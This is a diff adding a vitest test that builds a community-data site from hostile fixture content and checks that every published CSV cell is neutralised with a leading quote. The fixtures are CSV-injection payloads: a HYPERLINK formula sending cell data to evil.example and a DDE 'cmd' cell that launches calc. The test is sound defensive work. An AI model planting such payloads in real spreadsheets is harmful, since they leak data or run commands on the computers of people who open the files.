@@ -1,0 +1,50 @@
+import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { parse } from 'node-html-parser';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { isFormulaLike } from '../../src/lib/formula-cells.ts';
+import { buildSite } from '../helpers/build-fixture.ts';
+import { copyFixture, editFile } from '../helpers/content.ts';
+
+// The fixture as a careless editor or an attacker with commit rights might write it.
+const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
+const HOSTILE_CELLS = ['@SUM(A1)', '+1+cmd|\' /C calc\'!A0', '\t=1+1', '-2+3'];
+
+describe('a build of hostile content', () => {
+  const state = { content: '', dist: '' };
+  beforeAll(async () => {
+    state.content = await copyFixture();
+    await editFile(state.content, 'communities/hetang.md', 'name: 荷塘社区', `name: '${HOSTILE_NAME}'`);
+    await writeFile(path.join(state.content, 'data/jingfei.csv'),
+      ['year,amount,note', ...HOSTILE_CELLS.map((cell, i) => `${2020 + i},${i === 3 ? -1.5 : 10 + i},"${cell.replace(/"/g, '""')}"`)].join('\n'));
+    await editFile(state.content, 'reports/shijian.md', /$/, '\n```chart\ntype: bar\ntitle: 各社区户数\nfrom: communities\nx: name\ny: households\n```\n');
+    state.dist = path.join(await mkdtemp(path.join(os.tmpdir(), 'shequ-hostile-')), 'dist');
+    await buildSite(state.content, state.dist);
+  }, 180_000);
+  afterAll(async () => {
+    await rm(state.content, { recursive: true, force: true });
+    if (state.dist) await rm(path.dirname(state.dist), { recursive: true, force: true });
+  });
+
+  const readCsv = async (file: string) => parseCsv((await readFile(path.join(state.dist, file), 'utf8')).replace(/^\uFEFF/, '')) as string[][];
+
+  test('no cell of any published CSV is a formula, and the hostile ones are shown as text', async () => {
+    const files = (await readdir(state.dist, { recursive: true })).filter((f) => f.endsWith('.csv')).sort();
+    expect(files).toEqual(expect.arrayContaining(['data/communities.csv', 'data/jingfei.csv', 'charts/report-shijian-2.csv']));
+    const cells = (await Promise.all(files.map(readCsv))).flat(2);
+    expect(cells.filter(isFormulaLike)).toEqual([]);
+    expect((await readCsv('data/communities.csv')).map((row) => row[1])).toContain(`'${HOSTILE_NAME}`);
+    expect((await readCsv('charts/report-shijian-2.csv')).map((row) => row[0])).toContain(`'${HOSTILE_NAME}`);
+    expect((await readCsv('data/jingfei.csv')).slice(1)).toEqual(
+      // Data tables keep cells trimmed, so the tab before `=1+1` is gone; the formula is still neutralised.
+      HOSTILE_CELLS.map((cell, i) => [String(2020 + i), i === 3 ? '-1.5' : String(10 + i), `'${cell.trim()}`]),
+    );
+  });
+
+  test('the data page says how formula cells are neutralised', async () => {
+    const page = parse(await readFile(path.join(state.dist, 'data/index.html'), 'utf8'));
+    expect(page.querySelector('main .note')?.textContent).toContain('英文单引号');
+  });
+});
